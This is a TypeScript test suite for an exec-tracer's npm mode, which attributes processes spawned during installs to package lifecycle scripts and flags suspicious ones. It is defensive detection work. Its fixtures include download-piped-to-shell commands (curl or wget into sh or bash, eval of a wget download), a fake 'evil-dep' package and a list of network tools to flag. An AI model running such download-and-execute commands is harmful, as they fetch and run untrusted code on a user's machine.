// SPDX-License-Identifier: MIT
//
// --npm's attribution, flags and report (cli/npm.ts), from kernel records
// byte for byte through a real ExecTracer on the mock binding.
import { describe, expect, it } from 'vitest';
import { ExecTracer } from '../../lib/index.js';
import { LAYOUT } from '../../lib/records/layout.js';
import {
  attributionFromEnv,
  attributionPrefix,
  execFlags,
  NPM_ENV,
  NpmRecorder,
  npmReportLines,
  shellReadsStdin,
  type FlagInput,
  type NpmAttribution,
  type NpmReport,
} from '../../cli/npm.js';
import { MockBinding, encodeExecRecord, encodeExitRecord, encodeForkRecord } from '../helpers/mock-binding.js';

const plain: FlagInput = { filename: '/usr/bin/node', argv: ['node', 'install.js'], exe: '/usr/bin/node', exeDeleted: false, exeMemfd: false, exeMode: 0o100755, uid: 1000, euid: 1000 };
const codes = (e: Partial<FlagInput>) => execFlags({ ...plain, ...e }).map((f) => f.code);

/** The variables npm 11 gives a script of PKG@VERSION. */
const scriptEnv = (pkg: string, version: string, event: string, line: string) => [
  'PATH=/usr/bin:/bin',
  `npm_config_user_agent=npm/11.19.1 node/v20.20.2 linux x64 workspaces/false`,
  `npm_package_name=${pkg}`,
  `npm_lifecycle_script=${line}`,
  `npm_package_version=${version}`,
  `npm_lifecycle_event=${event}`,
  'HOME=/root',
];

describe('attributionFromEnv', () => {
  it('takes package, version, script, manager and line from the variables a package manager sets', () => {
    const env = Object.fromEntries(scriptEnv('evil-dep', '1.0.0', 'postinstall', 'node x.js').map((e) => e.split(/=(.*)/s).slice(0, 2)));
    expect(attributionFromEnv(env)).toEqual({ package: 'evil-dep', version: '1.0.0', script: 'postinstall', manager: 'npm/11.19.1', line: 'node x.js' });
  });

  it('needs the event and the name; a missing version or manager is empty', () => {
    expect(attributionFromEnv({ npm_package_name: 'a' })).toBeUndefined();
    expect(attributionFromEnv({ npm_lifecycle_event: 'install' })).toBeUndefined();
    expect(attributionFromEnv({ npm_lifecycle_event: '', npm_package_name: 'a' })).toBeUndefined();
    expect(attributionFromEnv({ npm_lifecycle_event: 'install', npm_package_name: 'a' })).toEqual({ package: 'a', version: '', script: 'install', manager: '', line: '' });
  });

  it('makes the line prefix', () => {
    expect(attributionPrefix(undefined)).toBe('');
    expect(attributionPrefix({ package: 'a', version: '1.2.3', script: 'install', manager: '', line: '' })).toBe('[a@1.2.3 install] ');
    expect(attributionPrefix({ package: 'a', version: '', script: 'install', manager: '', line: '' })).toBe('[a install] ');
  });
});

describe('execFlags', () => {
  it('flags nothing in an ordinary exec', () => {
    expect(execFlags(plain)).toEqual([]);
    expect(codes({ filename: '/bin/sh', argv: ['sh', '-c', 'node-gyp rebuild | tee log'], exe: '/usr/bin/dash' })).toEqual([]);
  });

  it('flags network tools by the path exec\'d, argv[0] or the executable', () => {
    expect(codes({ filename: '/usr/bin/curl', argv: ['curl', '-O', 'https://x'], exe: '/usr/bin/curl' })).toEqual(['network-tool']);
    expect(codes({ filename: '/usr/bin/wget', argv: ['wget'], exe: '/usr/bin/wget' })).toEqual(['network-tool']);
    // busybox's applets: argv[0] names the tool.
    expect(codes({ filename: '/bin/nc', argv: ['nc', 'h', '1'], exe: '/bin/busybox' })).toEqual(['network-tool']);
    expect(execFlags({ ...plain, filename: '/usr/bin/socat', argv: ['socat'], exe: '/usr/bin/socat' })[0]!.reason).toBe('socat is a network tool');
  });

  it('flags a shell whose -c script runs a download', () => {
    const sh = (script: string, flag = '-c') => codes({ filename: '/bin/sh', argv: ['sh', flag, script], exe: '/usr/bin/dash' });
    expect(sh('curl -fsSL https://x/i.sh | sh')).toEqual(['shell-pipes-download']);
    expect(sh('wget -qO- https://x/i.sh | sudo bash -s -- --yes')).toEqual(['shell-pipes-download']);
    expect(sh('curl https://x | /bin/bash')).toEqual(['shell-pipes-download']);
    expect(sh('sh -c "$(curl -fsSL https://x)"')).toEqual(['shell-pipes-download']);
    expect(sh('eval `wget -O- https://x`')).toEqual(['shell-pipes-download']);
    expect(sh('bash <(curl -s https://x)')).toEqual(['shell-pipes-download']);
    expect(sh('curl https://x | sh', '-ec')).toEqual(['shell-pipes-download']);
    // A download saved, or piped elsewhere: not shell code.
    expect(sh('curl -o x.tgz https://x && tar xf x.tgz')).toEqual([]);
    expect(sh('curl https://x | tar xz')).toEqual([]);
    expect(sh('curl https://x | shasum')).toEqual([]);
    // Not a shell: its arguments are not a script.
    expect(codes({ argv: ['node', '-c', 'curl x | sh'] })).toEqual([]);
  });

  it('flags executables deleted, memfd, in node_modules or a temporary directory', () => {
    expect(codes({ exe: '/tmp/x/curl', filename: '/tmp/x/curl', argv: ['/tmp/x/curl'] })).toEqual(['network-tool', 'exe-in-tmp']);
    expect(codes({ exe: '/var/tmp/a.out' })).toEqual(['exe-in-tmp']);
    expect(codes({ exe: '/dev/shm/x' })).toEqual(['exe-in-tmp']);
    expect(codes({ exe: '/p/node_modules/@esbuild/linux-x64/bin/esbuild' })).toEqual(['exe-in-node_modules']);
    expect(codes({ exe: '/tmp/gone', exeDeleted: true })).toEqual(['exe-deleted', 'exe-in-tmp']);
    // A memfd is also nlink 0: said once, as a memfd.
    expect(codes({ exe: '/memfd:payload', exeDeleted: true, exeMemfd: true })).toEqual(['exe-memfd']);
    expect(codes({ exe: '/tmpfile' })).toEqual([]);
    // A project built under /tmp: its packages' files are said once, as node_modules.
    expect(codes({ exe: '/tmp/ci/node_modules/esbuild/bin/esbuild' })).toEqual(['exe-in-node_modules']);
    // With the project named, only its own node_modules: a package manager installed globally is not flagged.
    expect(execFlags({ ...plain, exe: '/p/node_modules/.pnpm/x@1/node_modules/x/bin/x' }, '/p/').map((f) => f.code)).toEqual(['exe-in-node_modules']);
    expect(execFlags({ ...plain, exe: '/usr/lib/node_modules/bun/bin/bun.exe' }, '/p')).toEqual([]);
  });

  it('flags setuid and setgid files and a change of effective uid', () => {
    const sudo = execFlags({ ...plain, exe: '/usr/bin/sudo', exeMode: 0o104755, euid: 0 });
    expect(sudo).toEqual([{ code: 'setuid', reason: '/usr/bin/sudo is setuid (euid 0, uid 1000)' }]);
    expect(codes({ exeMode: 0o102755 })).toEqual(['setuid']);
    expect(execFlags({ ...plain, euid: 0 })[0]!.reason).toBe('the effective uid changed to 0 (uid 1000)');
  });

  it('knows a shell that reads its script from stdin', () => {
    const shell = (...argv: string[]) => shellReadsStdin({ filename: '/bin/sh', exe: '/usr/bin/dash', argv });
    expect(shell('sh')).toBe(true);
    expect(shell('bash', '-s', '--', '--yes')).toBe(true);
    expect(shell('sh', '-e')).toBe(true);
    expect(shell('bash', '-o', 'pipefail')).toBe(true);
    expect(shell('sh', '-c', 'x')).toBe(false);
    expect(shell('sh', 'install.sh')).toBe(false);
    expect(shellReadsStdin({ filename: '/usr/bin/node', exe: '/usr/bin/node', argv: ['node'] })).toBe(false);
  });
});

/** A made-up install: records in order, as the kernel would write them. */
class Install {
  readonly records: Buffer[] = [];
  #pid = 2000;
  #ns = 1_000_000_000n;

  /** A process forked by PARENT (undefined: the command, no fork record). */
  fork(parent?: { pid: number; start: bigint }): { pid: number; start: bigint; parent?: { pid: number; start: bigint } } {
    const p = { pid: this.#pid++, start: (this.#ns += 1000n), parent };
    if (parent) this.records.push(encodeForkRecord({ pid: p.pid, ppid: parent.pid, bootNs: p.start, startBootNs: p.start, parentStartBootNs: parent.start }));
    return p;
  }

  exec(p: { pid: number; start: bigint; parent?: { pid: number; start: bigint } }, argv: string[], env: string[], more: Parameters<typeof encodeExecRecord>[0] = {}): void {
    this.records.push(
      encodeExecRecord({
        pid: p.pid,
        ppid: p.parent?.pid ?? 1,
        startBootNs: p.start,
        parentStartBootNs: p.parent?.start ?? 1n,
        bootNs: (this.#ns += 1000n),
        filename: argv[0],
        exe: argv[0],
        argv,
        env,
        exeMode: 0o100755,
        ...more,
      }),
    );
  }

  exit(p: { pid: number; start: bigint }, status: number): void {
    this.records.push(encodeExitRecord({ pid: p.pid, status, startBootNs: p.start, bootNs: (this.#ns += 1000n) }));
  }
}

async function record(install: Install, outer?: NpmAttribution): Promise<{ report: NpmReport; recorder: NpmRecorder; execIds: string[] }> {
  const binding = new MockBinding();
  const tracer = new ExecTracer({ forks: true, exits: true, env: NPM_ENV }, { binding });
  const recorder = new NpmRecorder(tracer, { outer });
  const execIds: string[] = [];
  tracer.on('exec', (e) => execIds.push(e.execId));
  await tracer.start();
  binding.current.push(...install.records);
  await tracer.stop();
  recorder.detach();
  return { report: recorder.report(['npm', 'ci'], '/p', 0), recorder, execIds };
}

describe('NpmRecorder', () => {
  it('attributes each exec to the innermost script, by its own variables or by ancestry when they were cleared', async () => {
    const i = new Install();
    const npm = i.fork();
    i.exec(npm, ['/usr/bin/node', '/usr/bin/npm', 'ci'], ['PATH=/usr/bin']);
    // evil-dep's postinstall: sh -c, which runs a fake curl from /tmp, and env -i sh.
    const sh = i.fork(npm);
    const post = scriptEnv('evil-dep', '1.0.0', 'postinstall', 'run.sh');
    i.exec(sh, ['/bin/sh', '-c', 'run.sh'], post);
    const curl = i.fork(sh);
    i.exec(curl, ['/tmp/x/curl', 'http://h/x.sh'], post);
    i.exit(curl, 0);
    const cleared = i.fork(sh);
    i.exec(cleared, ['/usr/bin/env', '-i', '/bin/sh', '-c', 'id'], post);
    i.exec(cleared, ['/bin/sh', '-c', 'id'], []);
    // A grandchild of the cleared shell: forked, never attributed by its own variables.
    const id = i.fork(cleared);
    i.exec(id, ['/usr/bin/id'], []);
    i.exit(id, 1 << 8);
    i.exit(cleared, 1 << 8);
    // nested-dep's postinstall runs `npm run payload` of evil-dep: innermost wins.
    const nested = i.fork(npm);
    i.exec(nested, ['/bin/sh', '-c', 'npm run payload'], scriptEnv('nested-dep', '2.0.0', 'postinstall', 'npm run payload'));
    const inner = i.fork(nested);
    i.exec(inner, ['/bin/sh', '-c', 'node -e 1'], scriptEnv('evil-dep', '1.0.0', 'payload', 'node -e 1'));
    i.exit(inner, 9);
    i.exit(nested, 0);
    i.exit(sh, 0);
    const { report, recorder, execIds } = await record(i);

    expect(recorder.attributionOf(execIds[0]!)).toBeUndefined();
    expect(recorder.attributionOf(execIds[1]!)).toMatchObject({ package: 'evil-dep', version: '1.0.0', script: 'postinstall' });
    expect(recorder.attributionOf(execIds[4]!)).toMatchObject({ package: 'evil-dep', script: 'postinstall', inherited: true });
    expect(recorder.attributionOf(execIds[5]!)).toMatchObject({ package: 'evil-dep', script: 'postinstall', inherited: true });
    expect(recorder.attributionOf(execIds[7]!)).toMatchObject({ package: 'evil-dep', script: 'payload' });
    expect(recorder.attributionOf(execIds[7]!)?.inherited).toBeUndefined();

    expect(report).toMatchObject({ command: ['npm', 'ci'], cwd: '/p', exitStatus: 0, execs: 8, attributed: 7, flagged: 1, lost: 0, unattributed: [] });
    expect(report.packages.map((p) => [p.package, p.version, p.scripts.map((s) => s.script)])).toEqual([
      ['evil-dep', '1.0.0', ['postinstall', 'payload']],
      ['nested-dep', '2.0.0', ['postinstall']],
    ]);
    const postinstall = report.packages[0]!.scripts[0]!;
    expect(postinstall).toMatchObject({ line: 'run.sh', manager: 'npm/11.19.1' });
    expect(postinstall.commands.map((c) => [c.argv.join(' '), c.status, c.flags.map((f) => f.code)])).toEqual([
      ['/bin/sh -c run.sh', 'exit 0', []],
      ['/tmp/x/curl http://h/x.sh', 'exit 0', ['network-tool', 'exe-in-tmp']],
      ['/usr/bin/env -i /bin/sh -c id', 'replaced by exec', []],
      ['/bin/sh -c id', 'exit 1', []],
      ['/usr/bin/id', 'exit 1', []],
    ]);
    expect(postinstall.commands.map((c) => c.inherited)).toEqual([undefined, undefined, undefined, true, true]);
    expect(postinstall.commands[1]).toMatchObject({ exitCode: 0, pid: 2002 });
    expect(report.packages[0]!.scripts[1]!.commands[0]).toMatchObject({ status: 'killed by SIGKILL', signal: 'SIGKILL' });
    expect(report.packages[1]!.scripts[0]!.commands.map((c) => c.argv.join(' '))).toEqual(['/bin/sh -c npm run payload']);
  });

  it('flags `curl | sh` by the shell reading stdin beside the download, and lists flagged execs outside scripts', async () => {
    const i = new Install();
    const npm = i.fork();
    i.exec(npm, ['/usr/bin/npm', 'ci'], []);
    const env = scriptEnv('dl', '0.1.0', 'install', 'curl -s http://h | sh');
    const sh = i.fork(npm);
    i.exec(sh, ['/bin/sh', '-c', 'curl -s http://h | sh'], env);
    const curl = i.fork(sh);
    const inner = i.fork(sh);
    i.exec(curl, ['/usr/bin/curl', '-s', 'http://h'], env);
    i.exec(inner, ['/bin/sh'], env);
    // The package manager's own download of a git dependency, say: outside any script.
    const git = i.fork(npm);
    i.exec(git, ['/usr/bin/ssh', 'git@h'], []);
    const sudo = i.fork(npm);
    i.exec(sudo, ['/usr/bin/true'], [], { exeMode: 0o104755, euid: 0, uid: 1000 });
    const { report } = await record(i);
    const commands = report.packages[0]!.scripts[0]!.commands;
    expect(commands.map((c) => c.flags.map((f) => f.code))).toEqual([['shell-pipes-download'], ['network-tool'], ['shell-pipes-download']]);
    expect(commands[2]!.flags[0]!.reason).toBe('it reads its script from stdin beside curl (a download piped into a shell)');
    expect(commands.map((c) => c.status)).toEqual(['running', 'running', 'running']);
    expect(report.unattributed.map((c) => [c.argv[0], c.flags.map((f) => f.code)])).toEqual([
      ['/usr/bin/ssh', ['network-tool']],
      ['/usr/bin/true', ['setuid']],
    ]);
    expect(report).toMatchObject({ execs: 6, attributed: 3, flagged: 5 });
  });

  it('flags deleted and memfd executables from the kernel\'s bits', async () => {
    const i = new Install();
    const npm = i.fork();
    const env = scriptEnv('x', '1.0.0', 'postinstall', 'node i.js');
    i.exec(npm, ['/usr/bin/node', 'i.js'], env);
    const a = i.fork(npm);
    i.exec(a, ['/dev/fd/3'], env, { exe: '/memfd:x', contextFlags: LAYOUT.contextFlags.exeDeleted | LAYOUT.contextFlags.exeMemfd });
    const b = i.fork(npm);
    i.exec(b, ['/p/.x'], env, { exe: '/p/.x', contextFlags: LAYOUT.contextFlags.exeDeleted });
    const { report } = await record(i);
    expect(report.packages[0]!.scripts[0]!.commands.map((c) => c.flags.map((f) => f.code))).toEqual([[], ['exe-memfd'], ['exe-deleted']]);
  });
});

describe('NpmRecorder under a script of its own', () => {
  it('leaves out the script that ran the tracer: CMD\'s own execs carry its variables', async () => {
    const i = new Install();
    const outerEnv = scriptEnv('app', '0.1.0', 'audit', 'exec-tracer --npm -- npm ci');
    const npm = i.fork();
    i.exec(npm, ['/usr/bin/npm', 'ci'], outerEnv);
    const sh = i.fork(npm);
    i.exec(sh, ['/bin/sh', '-c', 'node-gyp rebuild'], scriptEnv('addon', '3.0.0', 'install', 'node-gyp rebuild'));
    // The project's own prepare, run by npm ci: same package, another script.
    const prepare = i.fork(npm);
    i.exec(prepare, ['/bin/sh', '-c', 'tsc'], scriptEnv('app', '0.1.0', 'prepare', 'tsc'));
    const outer = { package: 'app', version: '0.1.0', script: 'audit', manager: 'npm/11.19.1', line: 'exec-tracer --npm -- npm ci' };
    const { report } = await record(i, outer);
    expect(report.packages.map((p) => `${p.package} ${p.scripts.map((s) => s.script).join()}`)).toEqual(['addon install', 'app prepare']);
    expect(report).toMatchObject({ execs: 3, attributed: 2 });
  });
});

describe('npmReportLines', () => {
  it('prints each package, script, command with its ending, and its flags; names are escaped', () => {
    const report: NpmReport = {
      command: ['npm', 'ci'],
      cwd: '/p',
      exitStatus: 0,
      execs: 3,
      attributed: 1,
      flagged: 2,
      lost: 2,
      packages: [
        {
          package: 'evil\x1b[2Jdep',
          version: '1.0.0',
          scripts: [
            {
              script: 'install',
              line: 'curl x',
              manager: 'npm/11.19.1',
              commands: [{ pid: 1, filename: '/tmp/curl', exe: '/tmp/curl', argv: ['/tmp/curl', 'a b'], time: '', status: 'exit 0', flags: [{ code: 'exe-in-tmp', reason: 'in /tmp' }] }],
            },
          ],
        },
      ],
      unattributed: [{ pid: 2, filename: '/usr/bin/ssh', exe: '/usr/bin/ssh', argv: ['ssh', 'h'], time: '', status: 'running', flags: [{ code: 'network-tool', reason: 'ssh is a network tool' }] }],
    };
    const esc = (s: string) => s.replace(/\x1b/g, '\\x1b');
    const quote = (s: string) => (s.includes(' ') ? `'${s}'` : esc(s));
    expect(npmReportLines(report, 20, quote, esc)).toEqual([
      'exec-tracer: npm lifecycle scripts: 1 package, 1 of 3 execs in scripts, 2 flagged',
      'evil\\x1b[2Jdep@1.0.0',
      '  install: curl x  (npm/11.19.1)',
      "    /tmp/curl 'a b'  [exit 0]",
      '      ! exe-in-tmp: in /tmp',
      'flagged outside any script:',
      '    ssh h  [running]',
      '      ! network-tool: ssh is a network tool',
      '2 records lost: the report may miss execs',
    ]);
    expect(npmReportLines(report, 1, quote, esc)[3]).toBe('    /tmp/curl ...  [exit 0]');
  });
});
